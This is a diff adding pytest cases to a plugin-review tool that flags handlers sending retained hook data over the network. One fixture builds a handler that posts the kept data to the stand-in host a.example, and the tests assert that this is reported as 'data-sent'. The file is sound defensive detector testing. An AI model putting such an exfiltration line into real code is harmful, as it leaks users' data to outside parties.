@@ -7,6 +7,7 @@ from pathlib import Path
 import pytest
 
 from stigmem_review import review
+from stigmem_review.interpret import deciding
 from support.plugins import plugin, write_wheel
 
 HOOKS = {"post_assert_audit": "tell", "post_recall_audit": "look"}
@@ -160,3 +161,28 @@ def test_kept_data_that_goes_to_a_new_place_is_named(tmp_path: Path) -> None:
     [(name, text)] = said(tmp_path, FIRST, edited("KEPT.update(kwargs)", other))
     assert name == "network-used"
     assert "some of it kept since post_recall_audit was given it" in text
+
+
+ASKED = "".join(f"    if OTHER.get({each}):\n        n += {each}\n" for each in range(10))
+LONG = f"def loop(n=0):\n{ASKED}    httpx.post('https://a.example', json={{'n': n}})\n"
+
+
+def test_what_cannot_be_followed_is_taken_to_send_what_it_mentions(tmp_path: Path) -> None:
+    old = edited("KEPT.update(kwargs)", loop=LONG)
+    new = old.replace("json={'n': n}", "json={'n': n, 'all': KEPT}")
+    [(name, text)] = said(tmp_path / "sent", old, new)
+    assert name == "data-sent"
+    assert "of what is given to post_recall_audit, and kept: " in text
+    assert said(tmp_path / "kept", new, new) == []
+
+
+def test_where_following_ends_too_early_is_a_gap(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    files = plugin(hooks=HOOKS, capabilities=("network.outbound", "facts.read", "recall.read"))
+    files["demo_plugin/handlers.py"] = edited("KEPT.update(kwargs)")
+    wheel = str(write_wheel(tmp_path, {**files, "demo_plugin/state.py": STATE}))
+    assert review("none", wheel).gaps == ()
+    monkeypatch.setattr(deciding, "KEPT_STEPS", 0)
+    [gap] = review("none", wheel).gaps
+    assert gap.why.startswith("what handlers keep of requests is mentioned in more code than is ")
